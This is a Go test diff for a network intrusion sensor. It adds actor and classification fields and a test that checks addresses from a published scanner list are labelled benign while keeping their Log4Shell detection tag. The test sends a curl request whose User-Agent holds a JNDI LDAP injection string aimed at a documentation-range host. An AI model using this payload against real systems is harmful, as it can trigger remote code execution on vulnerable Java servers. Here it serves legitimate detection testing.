@@ -47,6 +47,8 @@ type event struct {
 	HASSH      string     `json:"hassh"`
 	Username   string     `json:"username"`
 	Tags       []string   `json:"tags"`
+	Actor      string     `json:"actor"`
+	Class      string     `json:"classification"`
 }
 
 type sensorRun struct {
@@ -733,4 +735,43 @@ func TestSensorVerdictThroughServer(t *testing.T) {
 	if len(view.Evidence) == 0 || !strings.Contains(view.Evidence[0], "LOG4SHELL (CVE-2021-44228") {
 		t.Errorf("evidence %q does not name the Log4Shell rule", view.Evidence)
 	}
+}
+
+// TestSensorActorRanges: a published list of a benign organisation's
+// addresses, imported at start, makes the scanner's events benign and
+// names the actor, even for an exploit-shaped request (benign overrides).
+func TestSensorActorRanges(t *testing.T) {
+	needLab(t)
+	list := filepath.Join(t.TempDir(), "shodan.txt")
+	os.WriteFile(list, []byte("# as published\n"+lab.ScanIP+"\n198.51.100.0/30\n"), 0o644)
+	s := startSensor(t, "--actor-ranges", "SHODAN="+list)
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	lab.Command(ctx, lab.NSScan, "curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.1/a}", "http://198.51.100.172/").Run()
+	time.Sleep(time.Second)
+	var n int
+	for _, e := range s.stop(t) {
+		if e.Dst != netip.MustParseAddr("198.51.100.172") {
+			continue
+		}
+		n++
+		if e.Actor != "SHODAN" || e.Class != "benign" || !slicesContains(e.Tags, "SHODAN") {
+			t.Errorf("event to port %d: actor %q, classification %q, tags %v", e.DstPort, e.Actor, e.Class, e.Tags)
+		}
+		if e.Handshake && !slicesContains(e.Tags, "LOG4SHELL") {
+			t.Errorf("the request's own tags are lost: %v", e.Tags)
+		}
+	}
+	if n == 0 {
+		t.Fatal("no event recorded")
+	}
+}
+
+func slicesContains(s []string, v string) bool {
+	for _, x := range s {
+		if x == v {
+			return true
+		}
+	}
+	return false
 }
